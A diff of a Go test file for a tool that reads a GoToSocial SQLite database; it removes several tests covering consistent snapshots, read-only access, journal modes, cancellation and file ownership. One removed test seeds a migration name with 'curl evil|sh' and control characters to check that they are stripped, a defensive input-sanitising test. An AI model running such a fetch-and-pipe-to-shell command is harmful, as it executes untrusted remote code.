@@ -14,91 +14,12 @@ import (
 	"strings"
 	"syscall"
 	"testing"
-	"time"
 
 	"holdfast/instance"
 	"holdfast/internal/testkit"
 	"holdfast/manifest"
-	"holdfast/remedy"
 	"holdfast/vault"
 )
-
-func TestViewIsOneMomentWhileTheServerWrites(t *testing.T) {
-	dir := small(t, "WAL")
-	i := openInstance(t, dir, instance.Options{})
-	s := startServer(t, filepath.Join(dir, "sqlite.db"))
-	start := time.Now()
-	var first, last int64
-	for range 5 {
-		s.beyond(t, last)
-		v := begin(t, i)
-		db := stored(t, readDatabase(t, v, s.commits))
-		if err := v.Close(); err != nil {
-			t.Fatal(err)
-		}
-		debit, credit := query[int64](t, db, "SELECT count(*) FROM debit"), query[int64](t, db,
-			"SELECT count(*) FROM credit")
-		balance := query[int64](t, db, "SELECT n FROM balance")
-		if debit != credit || debit != balance || debit <= last {
-			t.Errorf("debit %d, credit %d, balance %d, after %d: not one moment", debit, credit, balance, last)
-		}
-		if first == 0 {
-			first = debit
-		}
-		last = debit
-	}
-	t.Logf("the server made %.0f commits a second", float64(last-first)/time.Since(start).Seconds())
-}
-
-func TestReadingChangesNoByteOfDatabaseOrLog(t *testing.T) {
-	dir := small(t, "WAL")
-	db := filepath.Join(dir, "sqlite.db")
-	s := startServer(t, db)
-	for range 10 {
-		s.commits()
-	}
-	s.kill()
-	before := hashes(t, db, db+"-wal")
-	for range 2 { // the second finds what the first left
-		v := begin(t, openInstance(t, dir, instance.Options{}))
-		copied := stored(t, readDatabase(t, v, nil))
-		if n := query[int64](t, copied, "SELECT count(*) FROM credit"); n < 500 {
-			t.Errorf("%d of at least 500 commits read: the log was not", n)
-		}
-		for _, err := range v.Media(t.Context()) {
-			if err != nil {
-				t.Fatal(err)
-			}
-		}
-		if err := v.Close(); err != nil {
-			t.Fatal(err)
-		}
-		if after := hashes(t, db, db+"-wal"); after != before {
-			t.Errorf("before\n%safter\n%s", before, after)
-		}
-	}
-}
-
-func TestViewReadsEveryJournalMode(t *testing.T) {
-	for _, mode := range []string{"WAL", "DELETE", "TRUNCATE"} {
-		t.Run(mode, func(t *testing.T) {
-			dir := small(t, mode)
-			want, err := os.ReadFile(filepath.Join(dir, "sqlite.db"))
-			if err != nil {
-				t.Fatal(err)
-			}
-			v := begin(t, openInstance(t, dir, instance.Options{}))
-			if got := readDatabase(t, v, nil); !slices.Equal(got, want) {
-				t.Error("a stopped server's pages differ from its file")
-			}
-			f := v.Database()[0]
-			if f.Path != "sqlite.db" || f.PageSize != 4096 || f.Size != int64(len(want)) ||
-				f.Part != manifest.Database || f.Modified.IsZero() {
-				t.Errorf("%+v", f)
-			}
-		})
-	}
-}
 
 func TestFactsDescribeTheInstance(t *testing.T) {
 	dir := small(t, "WAL")
@@ -246,18 +167,6 @@ func TestFactsAreWholeOrAnError(t *testing.T) {
 	}
 }
 
-func TestFactsHoldNoControlCharacters(t *testing.T) {
-	dir := small(t, "WAL")
-	db := openSQL(t, filepath.Join(dir, "sqlite.db"))
-	if _, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' " +
-		"|| char(27))"); err != nil {
-		t.Fatal(err)
-	}
-	if got := begin(t, openInstance(t, dir, instance.Options{})).Facts().Migration; got != "xcurl evil|sh" {
-		t.Errorf("%q", got)
-	}
-}
-
 func TestMediaAreLocalOnly(t *testing.T) {
 	i := openInstance(t, small(t, "WAL"), instance.Options{})
 	if got := mediaIn(t, begin(t, i)); !slices.Equal(got, localMedia) {
@@ -305,45 +214,6 @@ func fixture(t *testing.T) string {
 	dir := t.TempDir()
 	testkit.RecordedSQLite.Unpack(t, dir)
 	return dir
-}
-
-func TestStrangeDatabasesAreRefusedWithTheFix(t *testing.T) {
-	for name, c := range map[string]struct{ setup, want string }{
-		"noise":           {"noise", "not an SQLite database"},
-		"other programme": {"DROP TABLE media_attachments", "not GoToSocial's: it has no table media_attachments"},
-	} {
-		t.Run(name, func(t *testing.T) {
-			dir := small(t, "DELETE")
-			path := filepath.Join(dir, "sqlite.db")
-			if c.setup == "noise" {
-				write(t, dir, "sqlite.db", strings.Repeat("encrypted ", 1000))
-			} else if _, err := openSQL(t, path).Exec(c.setup); err != nil {
-				t.Fatal(err)
-			}
-			_, err := openInstance(t, dir, instance.Options{}).Begin(t.Context())
-			var p *remedy.Error
-			if !errors.As(err, &p) || p.Fix == "" || !strings.Contains(err.Error(), c.want) {
-				t.Errorf("%v", err)
-			}
-		})
-	}
-}
-
-func TestCancelEndsTheReading(t *testing.T) {
-	v := begin(t, openInstance(t, small(t, "WAL"), instance.Options{}))
-	ctx, cancel := context.WithCancel(t.Context())
-	r, err := v.OpenDatabase(ctx, "sqlite.db")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer r.Close()
-	if _, err := io.CopyN(io.Discard, r, 4096); err != nil {
-		t.Fatal(err)
-	}
-	cancel()
-	if _, err := io.Copy(io.Discard, r); !errors.Is(err, context.Canceled) {
-		t.Errorf("%v", err)
-	}
 }
 
 func TestMediaStayInTheirDirectory(t *testing.T) {
@@ -453,27 +323,6 @@ func TestUnreadableDatabaseNamesTheUserToRunAs(t *testing.T) {
 		if out := reader(); !strings.HasPrefix(out, "refused: can't read the ") ||
 			!strings.Contains(out, "fix: run Holdfast as root or as its user") {
 			t.Errorf("%s: %s", name, out)
-		}
-	}
-}
-
-func TestFilesMadeByRootBelongToTheServer(t *testing.T) {
-	dir, _ := public(t, "WAL")
-	for _, name := range []string{"", "sqlite.db"} {
-		if err := os.Chown(filepath.Join(dir, name), nobody, nobody); err != nil {
-			t.Fatal(err)
-		}
-	}
-	v := begin(t, openInstance(t, dir, instance.Options{}))
-	readDatabase(t, v, nil)
-	v.Close()
-	for _, name := range []string{"sqlite.db", "sqlite.db-wal", "sqlite.db-shm"} {
-		info, err := os.Stat(filepath.Join(dir, name))
-		if err != nil {
-			t.Fatal(err)
-		}
-		if s := info.Sys().(*syscall.Stat_t); s.Uid != nobody || s.Gid != nobody {
-			t.Errorf("%s belongs to %d:%d", name, s.Uid, s.Gid)
 		}
 	}
 }
